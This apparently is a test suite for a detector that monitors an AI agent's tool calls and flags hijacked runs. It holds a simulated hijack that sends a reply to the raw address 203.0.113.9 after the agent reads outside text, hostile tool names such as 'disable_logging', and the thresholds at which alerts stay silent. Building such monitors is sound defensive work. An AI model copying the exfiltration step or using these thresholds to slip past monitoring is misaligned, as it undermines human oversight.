import { describe, expect, it } from "vitest";
import { HOUR_MS } from "../../detectors/time/zones.ts";
import type { Finding } from "../../schemas/finding.ts";
import type { EventRecord } from "../../schemas/journal.ts";
import { event, type Harness, harness } from "./events.ts";

const START = Date.UTC(2026, 0, 5);
const DAY_MS = 24 * HOUR_MS;
let runs = 0;

/** Calls of one run, 5 seconds apart, each "tool target". */
function run(at: number, calls: readonly string[], more: Partial<EventRecord> = {}): EventRecord[] {
  const name = `run-${runs++}`;
  return calls.map((call, index) => {
    const [tool = "", target] = call.split(" ");
    return event(at + 5000 * index, { run: name, tool, ...(target === undefined ? {} : { target }), ...more });
  });
}

const HONEST = ["read_ticket help.acme.test", "search_kb kb.acme.test", "openai api.openai.com", "send_reply ANNA"];

/** Two weeks of honest work: twenty runs a day, each for another customer now and then. */
function honest(days = 14, customers = 12, more: Partial<EventRecord> = {}): EventRecord[] {
  return Array.from({ length: days * 20 }, (_, index) => {
    const at = START + Math.floor(index / 20) * DAY_MS + (8 + (index % 20) / 2) * HOUR_MS;
    const customer = `anna@customer-${index % customers}.test`;
    return run(
      at,
      HONEST.map((call) => call.replace("ANNA", customer)),
      more,
    );
  }).flat();
}

const pages = (findings: readonly Finding[]): Finding[] => findings.filter(({ severity }) => severity !== "info");
const hijack = ["read_ticket help.acme.test", "send_reply http://203.0.113.9/in", "search_kb kb.acme.test"];

function known(written: unknown = {}): Harness {
  const made = harness(written);
  expect(pages(made.takeAll(honest()))).toEqual([]);
  return made;
}

const LATER = START + 14 * DAY_MS + 9 * HOUR_MS;

describe("evidence weighed together", () => {
  it("pages once for a new destination, an odd order and outside text read just before, and names all three", () => {
    const found = pages(known().takeAll(run(LATER, hijack)));
    expect(found).toHaveLength(1);
    const [page] = found;
    expect(page).toMatchObject({ detector: "outbound", reason: "evidence_together", unit: "nats" });
    const said = [page?.title, ...(page?.facts ?? [])].join("; ");
    expect(said).toContain("203.0.113.9, a raw address");
    expect(said).toContain("goes from read_ticket to send_reply");
  });

  it("notes each of them alone, and pages for none", () => {
    const { takeAll } = known();
    const place = takeAll(run(LATER, [...HONEST.slice(0, 3), "send_reply http://203.0.113.9/in"]));
    expect(place).toMatchObject([{ severity: "info", detector: "outbound", title: /203\.0\.113\.9/ }]);
    const order = takeAll(run(LATER + HOUR_MS, ["read_ticket help.acme.test", "send_reply anna@customer-1.test"]));
    expect(order).toMatchObject([{ severity: "info", detector: "novelty" }]);
    const tool = takeAll(run(LATER + 2 * HOUR_MS, ["read_ticket help.acme.test", "translate_text kb.acme.test"]));
    expect(tool).toMatchObject([{ severity: "info", detector: "novelty", title: "first use of translate_text" }]);
  });

  it("finds an attacker that comes back days later", () => {
    const { takeAll } = known();
    for (const days of [0, 3, 5]) {
      expect(pages(takeAll(run(LATER + days * DAY_MS, hijack)))).toHaveLength(1);
      expect(pages(takeAll(run(LATER + days * DAY_MS + HOUR_MS, HONEST)))).toEqual([]);
    }
  });

  it("says nothing of new customers where they are every day's business", () => {
    const { takeAll } = harness();
    const found = takeAll(honest(21, 200)).filter(({ detector }) => detector === "outbound" || detector === "novelty");
    expect(found.filter(({ at }) => at > START + 7 * DAY_MS)).toEqual([]);
  });

  it("pages for three first uses in one run, not for two", () => {
    const strange = ["shell_exec", "dump_table", "disable_logging"];
    expect(pages(known().takeAll(run(LATER, strange.slice(0, 2))))).toEqual([]);
    expect(pages(known().takeAll(run(LATER, strange)))).toMatchObject([{ detector: "novelty", severity: "warning" }]);
  });

  it("is silent about a newborn agent", () => {
    const { takeAll } = harness();
    expect(takeAll([...honest(1).slice(0, 40), ...run(START + 2 * DAY_MS, hijack)])).toEqual([]);
  });

  it("knows an agent after a day of runs that resemble each other, and is quiet about its second day", () => {
    const { takeAll } = harness();
    expect(pages(takeAll(honest(2)))).toEqual([]);
    expect(pages(takeAll(run(START + 2 * DAY_MS, hijack)))).toHaveLength(1);
  });

  it("is quiet about an agent with a short history that improvises", () => {
    const { takeAll } = harness();
    const tools = Array.from({ length: 12 }, (_, index) => `tool_${index}`);
    const work = Array.from({ length: 40 }, (_, n) =>
      run(
        START + n * HOUR_MS,
        [0, 1, 2].map(
          (step) => `${tools[(n * 5 + step * step * 7) % tools.length]} person${n % 9}@place-${n % 13}.test`,
        ),
      ),
    );
    expect(pages(takeAll(work.flat()))).toEqual([]);
  });

  it("learns from history that was brought in without a word, and then knows the agent", () => {
    const { takeAll } = harness();
    expect(takeAll(honest(14, 12, { backfill: true }))).toEqual([]);
    expect(pages(takeAll(run(LATER, hijack)))).toHaveLength(1);
  });

  it("obeys `enabled: false`", () => {
    const off = { novelty: { enabled: false }, outbound: { enabled: false } };
    expect(known({ defaults: { detectors: off } }).takeAll(run(LATER, hijack))).toEqual([]);
  });
});

describe("bytes sent", () => {
  const sends = (from: number, count: number, bytes: (index: number) => number): EventRecord[] =>
    Array.from({ length: count }, (_, index) =>
      event(from + index * 60_000, { tool: "upload", target: "files.acme.test", bytes_out: Math.round(bytes(index)) }),
    );
  const usual = (index: number): number => 50_000 * (1 + 0.4 * Math.sin(index * 7));

  it("speak when they are several times as large as that tool's own", () => {
    const { takeAll } = harness({}, undefined);
    expect(pages(takeAll(sends(START, 300, usual)))).toEqual([]);
    const found = takeAll(sends(START + DAY_MS, 20, (index) => 4 * usual(index)));
    expect(found[0]).toMatchObject({
      detector: "outbound",
      reason: "larger_sends",
      unit: "bytes",
      severity: "warning",
    });
    expect(found[0]?.title).toMatch(/^sent [\d.]+ times as much as usual$/);
  });

  it("say nothing below the floor, or of as much as usual", () => {
    const { takeAll } = harness({ defaults: { detectors: { outbound: { minExcess: "50MB" } } } });
    takeAll(sends(START, 300, usual));
    expect(takeAll(sends(START + DAY_MS, 20, (index) => 4 * usual(index)))).toEqual([]);
    expect(takeAll(sends(START + 3 * DAY_MS, 60, usual))).toEqual([]);
  });
});

describe("a restart", () => {
  it("changes nothing, wherever in a hijacked run it comes", () => {
    const records = [
      ...honest(8),
      ...run(START + 8 * DAY_MS + 9 * HOUR_MS, [...hijack, "send_reply http://203.0.113.9/in"]),
    ];
    const whole = JSON.stringify(harness().takeAll(records));
    for (const left of [1, 2, 3, 4, 5, 40]) {
      const at = records.length - left;
      const first = harness();
      const before = first.takeAll(records.slice(0, at));
      const second = harness();
      for (const key of first.runner.takeDirty()) {
        const saved = first.runner.save(key);
        if (saved !== null) second.runner.restore(key, Buffer.from(saved));
      }
      const after = records
        .slice(at)
        .flatMap((record, index) => [...second.runner.evaluate(record, { partition: 0, offset: 1 + at + index })]);
      expect(JSON.stringify([...before, ...after])).toBe(whole);
    }
  });
});
